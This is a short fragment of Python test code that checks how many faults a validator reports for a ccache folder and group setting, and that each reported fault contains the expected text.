    faults = of_one(d1fleet_ccache_folder=folder, d1fleet_ccache_group=group)["faults"]
    assert len(faults) == (1 if words else 0), faults
    assert all(words in fault for fault in faults)
